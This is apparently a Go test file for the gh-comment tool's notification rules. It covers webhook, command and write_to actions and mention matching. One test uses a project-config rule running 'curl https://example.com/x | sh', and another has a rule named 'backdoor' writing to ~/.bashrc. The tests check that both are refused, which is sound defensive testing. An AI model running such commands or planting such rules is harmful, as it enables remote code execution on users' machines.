@@ -0,0 +1,317 @@
+package cmd
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/silouanwright/gh-comment/internal/github"
+)
+
+func TestCompileNotificationRules(t *testing.T) {
+	tests := []struct {
+		name    string
+		rule    NotificationRule
+		wantErr string
+	}{
+		{name: "command action", rule: NotificationRule{Name: "a", Events: []string{"mention"}, Command: "true"}},
+		{name: "local webhook", rule: NotificationRule{Webhook: "http://localhost:8080/hook"}},
+		{name: "loopback webhook", rule: NotificationRule{Webhook: "http://127.0.0.1:9000"}},
+		{name: "ipv6 loopback webhook", rule: NotificationRule{Webhook: "http://[::1]:9000/x"}},
+		{name: "file glob and body regex", rule: NotificationRule{File: "src/**/*.go", Body: "(?i)todo", WriteTo: "out.jsonl"}},
+		{name: "no action", rule: NotificationRule{Name: "quiet"}, wantErr: "rule quiet: no action"},
+		{name: "unnamed rule uses index", rule: NotificationRule{}, wantErr: "rule #1"},
+		{name: "invalid event", rule: NotificationRule{Events: []string{"merged"}, Command: "true"}, wantErr: "invalid event 'merged'"},
+		{name: "invalid regex", rule: NotificationRule{Body: "(", Command: "true"}, wantErr: "invalid body regex"},
+		{name: "remote webhook", rule: NotificationRule{Webhook: "https://example.com/hook"}, wantErr: "must point to localhost"},
+		{name: "bad webhook scheme", rule: NotificationRule{Webhook: "ftp://localhost/x"}, wantErr: "scheme must be http or https"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := compileNotificationRules([]NotificationRule{tt.rule})
+			if tt.wantErr == "" {
+				assert.NoError(t, err)
+				return
+			}
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), tt.wantErr)
+		})
+	}
+}
+
+func TestValidateConfigRejectsInvalidNotificationRules(t *testing.T) {
+	config := NewDefaultConfig()
+	config.Notifications.Rules = []NotificationRule{{Name: "broken", Events: []string{"mention"}}}
+
+	err := validateConfig(config)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "rule broken")
+}
+
+func TestLoadConfigWithNotificationRules(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(path, []byte(`
+notifications:
+  rules:
+    - name: mentions
+      events: [mention, reply]
+      command: echo hi
+    - name: hook
+      events: [changes_requested]
+      webhook: http://localhost:8080/x
+`), 0o600))
+
+	config, err := LoadConfig(path)
+	require.NoError(t, err)
+	require.Len(t, config.Notifications.Rules, 2)
+	assert.Equal(t, []string{"mention", "reply"}, config.Notifications.Rules[0].Events)
+	assert.Equal(t, "http://localhost:8080/x", config.Notifications.Rules[1].Webhook)
+}
+
+func TestMentionPattern(t *testing.T) {
+	tests := []struct {
+		body     string
+		expected bool
+	}{
+		{"@alice can you look?", true},
+		{"cc @Alice", true},
+		{"thanks (@alice)!", true},
+		{"@alice-bot please run", false},
+		{"@alicea hi", false},
+		{"email alice@alice.com", false},
+		{"see org/@alice", false},
+		{"no mention", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.body, func(t *testing.T) {
+			assert.Equal(t, tt.expected, mentionPattern("alice").MatchString(tt.body))
+		})
+	}
+
+	assert.Nil(t, mentionPattern(""))
+}
+
+func TestCheckNotificationActions(t *testing.T) {
+	rules, err := compileNotificationRules([]NotificationRule{
+		{Name: "mine", Command: "notify-send hi"},
+		{Name: "log", WriteTo: "/tmp/events.jsonl"},
+		{Name: "hook", Webhook: "http://localhost:8080/hook"},
+	})
+	require.NoError(t, err)
+	trusted := []NotificationRule{
+		{Name: "personal", Command: "notify-send hi"},
+		{Name: "log", WriteTo: "/tmp/events.jsonl"},
+	}
+	assert.NoError(t, checkNotificationActions(rules, trusted))
+
+	rules, err = compileNotificationRules([]NotificationRule{{Events: []string{"new"}, Command: "curl https://example.com/x | sh"}})
+	require.NoError(t, err)
+	assert.EqualError(t, checkNotificationActions(rules, trusted),
+		"notification rule #1: command and write_to only run from rules in the user config file, not from a project config file")
+	assert.Error(t, checkNotificationActions(rules, nil))
+}
+
+func TestCheckNotificationActionsRefusesProjectWriteTo(t *testing.T) {
+	// A cloned repository's .gh-comment.yaml pointing write_to at a shell startup file
+	rules, err := compileNotificationRules([]NotificationRule{{Name: "backdoor", Events: []string{"new"}, WriteTo: "~/.bashrc"}})
+	require.NoError(t, err)
+
+	trusted := []NotificationRule{{Name: "log", WriteTo: "~/.local/state/gh-comment/events.jsonl"}}
+	assert.ErrorContains(t, checkNotificationActions(rules, trusted), "notification rule backdoor: command and write_to only run from rules in the user config file")
+
+	// The same file in a user rule that also runs a command is a different rule
+	trusted = []NotificationRule{{Name: "backdoor", WriteTo: "~/.bashrc", Command: "true"}}
+	assert.Error(t, checkNotificationActions(rules, trusted))
+}
+
+func newNotifyTestWatcher(t *testing.T, client *github.MockClient) *commentWatcher {
+	watcher, err := newCommentWatcher(client, "owner/repo", 5)
+	require.NoError(t, err)
+	_, err = watcher.Poll()
+	require.NoError(t, err)
+	return watcher
+}
+
+func TestNotifierEventKinds(t *testing.T) {
+	created := time.Date(2024, 6, 1, 9, 0, 0, 0, time.UTC)
+	client := &github.MockClient{
+		ReviewComments: []github.Comment{
+			{ID: 10, Body: "Should this be cached?", User: github.User{Login: "me"}, Path: "a.go", Line: 3, CreatedAt: created},
+			{ID: 11, Body: "Agreed", User: github.User{Login: "carol"}, Path: "a.go", Line: 3, InReplyToID: 10, CreatedAt: created},
+			{ID: 20, Body: "Unrelated thread", User: github.User{Login: "bob"}, Path: "b.go", Line: 1, CreatedAt: created},
+			{ID: 21, Body: "Reply in other thread", User: github.User{Login: "carol"}, Path: "b.go", Line: 1, InReplyToID: 20, CreatedAt: created},
+		},
+	}
+	n := &notifier{me: "me", mention: mentionPattern("me"), watcher: newNotifyTestWatcher(t, client)}
+
+	comments := n.watcher.review
+	byID := func(id int) Comment {
+		for _, c := range comments {
+			if c.ID == id {
+				return c
+			}
+		}
+		t.Fatalf("comment %d not found", id)
+		return Comment{}
+	}
+
+	assert.Equal(t, []string{"new", "reply"}, n.eventKinds(WatchEvent{Type: WatchEventNew, Comment: byID(11)}))
+	assert.Equal(t, []string{"new"}, n.eventKinds(WatchEvent{Type: WatchEventNew, Comment: byID(21)}))
+	assert.Equal(t, []string{"edited"}, n.eventKinds(WatchEvent{Type: WatchEventEdited, Comment: byID(11)}), "edits are not replies")
+
+	mention := Comment{ID: 30, Author: "bob", Body: "@me thoughts?", Type: "issue"}
+	assert.Equal(t, []string{"new", "mention"}, n.eventKinds(WatchEvent{Type: WatchEventNew, Comment: mention}))
+
+	self := Comment{ID: 31, Author: "me", Body: "note to @me", Type: "issue"}
+	assert.Equal(t, []string{"new"}, n.eventKinds(WatchEvent{Type: WatchEventNew, Comment: self}), "own comments never mention or reply to me")
+
+	review := WatchEvent{Type: WatchEventReview, ReviewState: "CHANGES_REQUESTED", Comment: Comment{Author: "bob"}}
+	assert.Equal(t, []string{"review", "changes_requested"}, n.eventKinds(review))
+}
+
+func TestNotificationRuleMatches(t *testing.T) {
+	rules, err := compileNotificationRules([]NotificationRule{
+		{Name: "any", Command: "true"},
+		{Name: "replies", Events: []string{"reply", "mention"}, Command: "true"},
+		{Name: "bots", Author: "*bot", Command: "true"},
+		{Name: "security", Body: "(?i)security", File: "src/auth/**", Command: "true"},
+	})
+	require.NoError(t, err)
+
+	review := WatchEvent{Comment: Comment{Author: "alice", Body: "Security issue here", Path: "src/auth/token.go", Type: "review"}}
+	issue := WatchEvent{Comment: Comment{Author: "ci-bot", Body: "Security scan passed", Type: "issue"}}
+
+	assert.True(t, rules[0].matches(issue, []string{"new"}))
+	assert.False(t, rules[1].matches(issue, []string{"new"}))
+	assert.True(t, rules[1].matches(issue, []string{"new", "mention"}))
+	assert.True(t, rules[2].matches(issue, []string{"new"}))
+	assert.False(t, rules[2].matches(review, []string{"new"}))
+	assert.True(t, rules[3].matches(review, []string{"new"}))
+	assert.False(t, rules[3].matches(issue, []string{"new"}), "file rules need a path")
+}
+
+func TestNotifierActions(t *testing.T) {
+	dir := t.TempDir()
+	jsonl := filepath.Join(dir, "nested", "events.jsonl")
+	hookOut := filepath.Join(dir, "hook.txt")
+
+	var received []notificationPayload
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		assert.Equal(t, "application/json", r.Header.Get("Content-Type"))
+		body, _ := io.ReadAll(r.Body)
+		var payload notificationPayload
+		assert.NoError(t, json.Unmarshal(body, &payload))
+		received = append(received, payload)
+	}))
+	defer server.Close()
+
+	rules, err := compileNotificationRules([]NotificationRule{{
+		Name:    "everything",
+		Events:  []string{"mention"},
+		Command: `echo "$GH_COMMENT_EVENT_RULE $GH_COMMENT_EVENT_KINDS $GH_COMMENT_EVENT_ID" > "` + hookOut + `"`,
+		WriteTo: jsonl,
+		Webhook: server.URL,
+	}})
+	require.NoError(t, err)
+
+	var stdout, stderr bytes.Buffer
+	n := &notifier{rules: rules, me: "me", mention: mentionPattern("me"), httpClient: server.Client(), stdout: &stdout, stderr: &stderr}
+
+	event := WatchEvent{Type: WatchEventNew, PR: 5, Comment: Comment{ID: 99, Author: "bob", Body: "hey @me", Type: "issue"}}
+	n.Handle(event)
+	n.Handle(WatchEvent{Type: WatchEventNew, PR: 5, Comment: Comment{ID: 100, Author: "bob", Body: "no mention", Type: "issue"}})
+
+	assert.Empty(t, stderr.String())
+	assert.Contains(t, stdout.String(), "🔔 [everything] new, mention by bob on PR #5")
+
+	hook, err := os.ReadFile(hookOut)
+	require.NoError(t, err)
+	assert.Equal(t, "everything new,mention 99\n", string(hook))
+
+	f, err := os.Open(jsonl)
+	require.NoError(t, err)
+	defer f.Close()
+	var lines []string
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		lines = append(lines, scanner.Text())
+	}
+	require.Len(t, lines, 1)
+	assert.Contains(t, lines[0], `"rule":"everything"`)
+	assert.Contains(t, lines[0], `"event":"new"`)
+
+	require.Len(t, received, 1)
+	assert.Equal(t, 99, received[0].Comment.ID)
+	assert.Equal(t, []string{"new", "mention"}, received[0].Kinds)
+}
+
+func TestNotifierActionFailuresAndDryRun(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusInternalServerError)
+	}))
+	defer server.Close()
+
+	rules, err := compileNotificationRules([]NotificationRule{{Name: "r", Command: "exit 1", Webhook: server.URL}})
+	require.NoError(t, err)
+
+	event := WatchEvent{Type: WatchEventNew, PR: 5, Comment: Comment{ID: 1, Author: "bob", Type: "issue"}}
+
+	var stdout, stderr bytes.Buffer
+	n := &notifier{rules: rules, httpClient: server.Client(), stdout: &stdout, stderr: &stderr}
+	n.Handle(event)
+	assert.Contains(t, stderr.String(), "command failed")
+	assert.Contains(t, stderr.String(), "HTTP 500")
+
+	stdout.Reset()
+	stderr.Reset()
+	n.dryRun = true
+	n.Handle(event)
+	assert.Empty(t, stderr.String())
+	assert.Contains(t, stdout.String(), "[dry-run] would run: exit 1")
+	assert.Contains(t, stdout.String(), "[dry-run] would POST to: "+server.URL)
+}
+
+func TestNotifyLoopReportsChangesRequested(t *testing.T) {
+	client := newWatchMockClient()
+	watcher, err := newCommentWatcher(client, "owner/repo", 7)
+	require.NoError(t, err)
+
+	rules, err := compileNotificationRules([]NotificationRule{{Name: "blockers", Events: []string{"changes_requested"}, Command: "true"}})
+	require.NoError(t, err)
+	watcher.reviews = rulesNeedKinds(rules, WatchEventReview, NotifyKindChangesRequested)
+	watcher.threads = rulesNeedKinds(rules, WatchEventResolved)
+	require.True(t, watcher.reviews)
+	require.False(t, watcher.threads)
+
+	var stdout bytes.Buffer
+	n := &notifier{rules: rules, watcher: watcher, stdout: &stdout, stderr: &stdout, dryRun: true}
+
+	polls := 0
+	sleep := func(ctx context.Context, d time.Duration) error {
+		polls++
+		if polls == 1 {
+			client.Reviews = append(client.Reviews, github.Review{
+				ID: 500, User: github.User{Login: "bob"}, State: "CHANGES_REQUESTED", Body: "Please add tests",
+				SubmittedAt: time.Now(),
+			})
+		}
+		return nil
+	}
+
+	require.NoError(t, runWatchLoop(context.Background(), watcher, watchOptions{Polls: 3, Sleep: sleep}, n.Handle))
+	assert.Contains(t, stdout.String(), "[blockers] review, changes_requested by bob on PR #7")
+	assert.Empty(t, client.ListedThreadPRs)
+}